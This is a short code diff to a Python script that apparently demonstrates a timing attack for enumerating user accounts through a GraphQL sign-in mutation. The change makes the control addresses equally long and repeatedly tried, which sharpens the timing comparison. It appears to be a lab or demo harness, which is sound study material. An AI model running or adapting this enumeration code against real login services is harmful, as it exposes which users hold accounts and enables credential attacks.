@@ -20,6 +20,8 @@ import http.client
 from attacks import demo, serve
 
 KNOWN = ["vera@vendor.example", "otto@vendor.example", "paul@partner.example", "sara@partner.example"]
+# As long as the known ones and as often tried: an address that was tried before costs less to count than one that was not.
+UNKNOWN = ["vern@vendor.example", "otis@vendor.example", "pete@partner.example", "saul@partner.example"]
 SIGN_IN = "mutation($email: String!) { signIn(input: {email: $email, password: \"wrong wrong wrong\"}) { errors { code } } }"
 
 
@@ -29,9 +31,8 @@ def tries(address, count):
     waits = {True: [], False: []}
     order = [True, False] * (count // 2)
     random.shuffle(order)
-    for number, known in enumerate(order):
-        # As long as the known ones, and never the same twice.
-        email = random.choice(KNOWN) if known else f"n{number:03}@partner.example"
+    for known in order:
+        email = random.choice(KNOWN if known else UNKNOWN)
         body = json.dumps({"query": SIGN_IN, "variables": {"email": email}})
         began = time.perf_counter()
         connection.request("POST", "/graphql", body, {"content-type": "application/json"})
